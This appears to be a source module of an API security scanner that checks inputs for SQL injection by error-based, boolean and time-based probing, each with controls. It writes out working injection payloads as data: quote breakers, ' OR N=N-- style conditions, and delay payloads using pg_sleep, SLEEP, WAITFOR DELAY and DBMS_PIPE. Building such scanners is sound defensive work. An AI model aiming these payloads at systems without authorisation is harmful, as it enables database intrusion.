"""SQL injection, by three techniques tried in turn on each input; the first that confirms is reported.

Error-based: a quote that breaks SQL brings a database's own error message, absent from the plain
answer and from a control where the quote is escaped (doubled); seen twice. Boolean (reads only):
a true and a false condition appended to the value answer differently, one of them like the plain
value, twice with other numbers. Time-based (free-text inputs): a payload that makes the database
wait (SLEEP, pg_sleep, WAITFOR, DBMS_PIPE, a counting query for SQLite) at two durations, each
against a same-length control that does not wait. A 500 alone is never a finding.
"""
from __future__ import annotations

import random
from collections.abc import Iterator
from dataclasses import dataclass
from functools import partial

from scans.engine.checks.compare import Answer, alike, answer
from scans.engine.checks.context import PlanContext, Probe, ProbeContext, Verdict, found, passed
from scans.engine.checks.inputs import Injector, InputPoint, injectable_points
from scans.engine.checks.registry import Agent, check
from scans.engine.checks.signatures import database_error
from scans.engine.checks.timed_inputs import timed_finding
from scans.engine.checks.timing import Delay
from scans.engine.http.reply import Reply
from scans.engine.model import SAFE_METHODS
from scans.engine.owasp import Owasp

BREAKERS = (("'", "''"), ('"', '""'), ("')", "'')"), ("\\", "\\\\"))
"""Characters that break a SQL literal, each with its escaped twin (the control)."""


@dataclass(frozen=True, slots=True)
class Condition:
    """A way to append a condition to a value: `{}` is the comparison (`7=7`)."""

    template: str
    joins_with_and: bool

    def text(self, value: str, left: int, right: int) -> str:
        return value + self.template.format(f"{left}={right}")


TEXT_CONDITIONS = (
    Condition("' AND {}-- ", True), Condition("' OR {}-- ", False),
    Condition('" AND {}-- ', True), Condition('" OR {}-- ', False),
    Condition("') AND {}-- ", True), Condition("') OR {}-- ", False),
)
NUMBER_CONDITIONS = (Condition(" AND {}", True), Condition(" OR {}", False))
COUNTED_ROWS = "(SELECT count(*) FROM (WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM c WHERE x{op}{rows:d}) " \
               "SELECT x FROM c))"


def _padded(before: str, missing: int) -> str:
    """`before` with `missing` spaces where SQL allows them (at its first space, else after `||`)."""
    if missing <= 0:
        return before
    at = before.find(" ") if " " in before else before.find("||") + 2
    return before[:at] + " " * missing + before[at:]


def _sleeps(value: str) -> tuple[Delay, ...]:
    """Waiting payloads for a value inside a quoted SQL string, per database; the controls keep
    the same length and the same number, so an input that reads a number as a delay waits for both."""

    def sleep(before: str, after: str, control_before: str, control_after: str, name: str) -> Delay:
        missing = len(before + after) - len(control_before + control_after)
        padded = _padded(control_before, missing)
        return Delay(
            name,
            lambda seconds: f"{value}{before}{seconds:g}{after}",
            lambda seconds: f"{value}{padded}{seconds:g}{control_after}",
        )

    heavy = Delay(
        "SQLite counting query",
        lambda rows: f"{value}'||{COUNTED_ROWS.format(op='<', rows=int(rows))}||'",
        lambda rows: f"{value}'||{COUNTED_ROWS.format(op='>', rows=int(rows))}||'",
        heavy=True,
    )
    return (
        heavy,
        sleep("'||(SELECT '' FROM pg_sleep(", "))||'", "'||(SELECT '' FROM abs(", "))||'", "PostgreSQL pg_sleep"),
        sleep("'||(SELECT 1 FROM (SELECT SLEEP(", "))n)||'", "'||(SELECT 1 FROM (SELECT ABS(", "))n)||'",
              "MySQL SLEEP"),
        sleep("';WAITFOR DELAY '0:0:", "'--", "';SELECT '0:0:", "'--", "SQL Server WAITFOR DELAY"),
        sleep("'||DBMS_PIPE.RECEIVE_MESSAGE('n',", ")||'", "'||ABS(", ")||'", "Oracle DBMS_PIPE.RECEIVE_MESSAGE"),
    )


@check(
    name="sql_injection",
    title="SQL injection",
    owasp=Owasp.API8,
    cwe=89,
    score=95,
    remediation=(
        "Build every query with bound parameters (prepared statements, the ORM's query builder); never "
        "concatenate input into SQL. Validate input against its documented type, and give the database "
        "account only the rights the API needs."
    ),
    agent=Agent.INJECTION,
)
def sql_injection(plan: PlanContext) -> Iterator[Probe]:
    """A probe per text or number input of the reads and creations."""
    for point in injectable_points(plan.kb, accept=lambda point: point.is_text or point.is_number):
        yield plan.probe(point.operation, partial(_probe, point=point), key=point.key)


def _probe(ctx: ProbeContext, *, point: InputPoint) -> Verdict:
    injector = Injector(ctx, point)
    plain = injector.plain()
    tried = []
    for technique in (_error_based, _boolean, _time_based):
        outcome = technique(ctx, injector, plain)
        if isinstance(outcome, Verdict):
            return outcome
        tried.append(outcome)
    return passed("; ".join(item for item in tried if item))


def _error_based(ctx: ProbeContext, injector: Injector, plain: Reply) -> Verdict | str:
    value = injector.base_value
    if database_error(plain.text):
        return "the plain answer already holds a database error"
    for breaker, escaped in BREAKERS:
        broken = injector.send(value + breaker)
        engine = database_error(broken.text)
        if not engine:
            continue
        control = injector.send(value + escaped)
        if database_error(control.text):
            continue
        again = injector.send(value + breaker)
        if database_error(again.text) != engine:
            return f"error-based: a {engine} error came once, not on the repeat"
        point = injector.point
        return found(ctx.finding(
            operation=point.operation,
            proof=again,
            parameter=point.name,
            title=f"SQL injection (error-based, {engine})",
            why=(
                f"appending {breaker!r} to the {point.label} brings a {engine} error message, twice, while the plain "
                f"value and the escaped twin {escaped!r} do not"
            ),
            description=(
                f"The {point.label} of {point.operation.method} {point.operation.path} is put into a SQL statement "
                f"unescaped: a quote breaks the statement and the {engine} error comes back."
            ),
            evidence=[(plain, "plain value"), (control, f"escaped twin {escaped!r}"), (again, f"with {breaker!r}")],
        ))
    return "error-based: no database error"


def _boolean(ctx: ProbeContext, injector: Injector, plain: Reply) -> Verdict | str:
    point = injector.point
    if point.operation.method not in SAFE_METHODS:
        return ""
    value = injector.base_value
    again = injector.send(value)
    baseline = answer(plain, [value])
    if not alike(baseline, answer(again, [value])):
        return "boolean: the plain answer varies between requests"
    conditions = TEXT_CONDITIONS if point.is_text and not value.lstrip("-").isdigit() else \
        NUMBER_CONDITIONS + TEXT_CONDITIONS[:2]
    rng = random.Random()
    for condition in conditions:
        pairs = []
        for _ in range(2):
            number = rng.randrange(100, 999)
            true_text, false_text = condition.text(value, number, number), condition.text(value, number, number + 1)
            true_reply, false_reply = injector.send(true_text), injector.send(false_text)
            true_answer, false_answer = answer(true_reply, [true_text, value]), answer(false_reply, [false_text, value])
            unchanged = true_answer if condition.joins_with_and else false_answer
            changed = false_answer if condition.joins_with_and else true_answer
            if not alike(unchanged, baseline) or alike(changed, baseline) or changed.status >= 500:
                break
            pairs.append((true_reply, false_reply, true_answer, false_answer))
        if len(pairs) < 2:
            continue
        (_, _, first_true_answer, first_false_answer), (true_reply, false_reply, true_answer, false_answer) = pairs
        if not (alike(first_true_answer, true_answer) and alike(first_false_answer, false_answer)):
            continue
        shown = condition.template.format("N=N")
        return found(ctx.finding(
            operation=point.operation,
            proof=true_reply if not condition.joins_with_and else false_reply,
            parameter=point.name,
            title="SQL injection (boolean-based)",
            why=(
                f"appending {shown!r} to the {point.label} changes the answer depending on whether the condition is "
                f"true or false ({_summary(true_answer)} vs {_summary(false_answer)}; plain value: "
                f"{_summary(baseline)}), twice with other numbers"
            ),
            description=(
                f"The {point.label} of {point.operation.method} {point.operation.path} is evaluated as SQL: a "
                "condition appended to it decides what the query returns."
            ),
            evidence=[(plain, "plain value"), (true_reply, "true condition"), (false_reply, "false condition")],
        ))
    return "boolean: true and false conditions answer alike"


def _summary(item: Answer) -> str:
    return f"{item.status}, {item.records} record(s)" if item.records >= 0 else f"{item.status}, {len(item.text)} chars"


def _time_based(ctx: ProbeContext, injector: Injector, plain: Reply) -> Verdict | str:
    if not injector.point.is_text:
        return ""
    return timed_finding(
        ctx, injector, plain, _sleeps(injector.base_value),
        title="SQL injection (time-based, {name})",
        description="The {label} of {op} is put into a SQL statement unescaped: a payload that makes the database "
                    "wait delays the answer by the time it asks for.",
        prefix="time-based",
    )
